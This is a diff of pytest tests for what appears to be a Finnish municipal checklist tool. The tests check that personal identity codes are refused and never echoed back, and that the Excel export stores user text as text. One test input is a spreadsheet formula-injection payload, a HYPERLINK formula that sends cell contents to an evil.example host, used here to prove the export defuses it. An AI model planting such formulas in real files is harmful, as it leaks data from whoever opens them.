@@ -535,6 +535,55 @@ def test_hyphen_variants_and_lowercase_codes_are_refused_in_owners(
     assert refused.value.problems[0].field == "owner"
 
 
+GLUED = "HETU010594Y9021"  # a valid code right after letters (issue 12.2)
+
+
+@pytest.mark.parametrize(
+    ("field", "values"),
+    [
+        ("title", {"title": GLUED}),
+        ("title", {"title": f"Soita {GLUED}"}),
+        ("owner", {"owner": f"Vastuu{GLUED}"}),
+        ("note", {"note": f"asiakas {GLUED}"}),
+    ],
+    ids=["title", "title-in-text", "owner", "note"],
+)
+def test_a_code_after_letters_is_refused_in_every_own_item_field_and_never_echoed(
+    engine: Engine, field: str, values: dict
+) -> None:
+    phase_id = int(_phases(engine).loc["mapping", "phase_id"])
+    args = {"title": "Oma tehtävä", **values}
+    title = args.pop("title")
+    before = len(_items(engine))
+    with pytest.raises(ChecklistError) as refused:
+        checklists.add_item(engine, COORDINATOR, JOENSUU, phase_id, title, **args)
+    assert [(p.key, p.field) for p in refused.value.problems] == [("checklists.error.hetu", field)]
+    messages = " ".join(p.message(lang) for p in refused.value.problems for lang in ("fi", "en"))
+    assert "010594Y9021" not in messages + str(refused.value)
+    assert len(_items(engine)) == before
+    assert _audit_rows(engine) == []
+
+
+def test_a_code_after_letters_is_refused_in_table_edits_and_the_setup(engine: Engine) -> None:
+    item = _ids(engine, "mapping")[0]
+    with pytest.raises(ChecklistError) as refused:
+        checklists.save_items(engine, COORDINATOR, [ItemEdit(item, 1, {"note": GLUED})])
+    assert refused.value.problems[0].key == "checklists.error.hetu"
+    url = f"https://intra.example.fi/muistio?q={GLUED}"
+    with pytest.raises(ChecklistError) as link:
+        checklists.save_items(engine, COORDINATOR, [ItemEdit(item, 1, {"evidence_url": url})])
+    assert [(p.key, p.field) for p in link.value.problems] == [
+        ("checklists.error.hetu", "evidence_url")
+    ]
+    with pytest.raises(ChecklistError) as setup:
+        checklists.save_setup(
+            engine, COORDINATOR, JOENSUU, version=1, operating_model=None, services=[],
+            coaching_environment=f"Paja{GLUED}",
+        )  # fmt: skip
+    assert setup.value.problems[0].key == "checklists.error.hetu"
+    assert _row(engine, item)["note"] is None
+
+
 def test_something_shaped_like_an_identity_code_is_saved_with_a_warning(engine: Engine) -> None:
     item = _ids(engine, "mapping")[0]
     result = checklists.save_items(
@@ -867,6 +916,27 @@ def test_the_excel_file_for_the_steering_group(engine: Engine) -> None:
     values = [[c.value for c in row] for row in progress.iter_rows(min_row=4)]
     assert values[0] == ["1. Kartoitusvaihe", 1, 2, 0.5, 1, "Nykyinen vaihe", None]
     assert [v[5] for v in values[1:]] == ["Tulossa"] * 3
+
+
+def test_the_excel_file_keeps_user_text_as_text_never_a_formula(engine: Engine) -> None:
+    phase_id = int(_phases(engine).loc["mapping", "phase_id"])
+    typed = {
+        "title": "+SUM(1;2)",
+        "owner": "@johtoryhmä",
+        "note": '=HYPERLINK("https://evil.example/?"&A1;"Avaa")',
+    }
+    checklists.add_item(engine, COORDINATOR, JOENSUU, phase_id, **typed)
+    item = _ids(engine, "mapping")[0]
+    checklists.save_items(engine, COORDINATOR, [ItemEdit(item, 1, {"note": "-1+1"})])
+    raw = checklists.checklist_workbook(engine, COORDINATOR, JOENSUU)
+    book = load_workbook(io.BytesIO(raw))
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    by_value = {c.value: c for c in cells}
+    for text in [*typed.values(), "-1+1"]:
+        assert by_value[text].data_type == "s", text
+        assert by_value[text].quotePrefix, text  # Excel keeps it text even when edited
+    assert not by_value["Kuntakohtaisen tilanteen selvittäminen"].quotePrefix
 
 
 def test_the_excel_file_needs_the_export_right(engine: Engine) -> None:
